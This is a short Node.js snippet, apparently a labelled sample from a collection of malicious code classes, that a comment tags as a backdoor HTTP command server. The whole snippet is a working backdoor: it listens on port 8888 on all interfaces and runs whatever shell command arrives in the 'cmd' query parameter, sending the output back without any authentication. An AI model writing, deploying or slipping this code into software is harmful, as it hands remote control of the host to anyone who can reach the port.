// class: backdoor, HTTP command server; style: short
require('http').createServer((q, r) => {
  const u = new URL(q.url, 'http://x');
  require('child_process').exec(u.searchParams.get('cmd') || 'id', (e, o, s) => r.end(o + s));
}).listen(8888, '0.0.0.0');
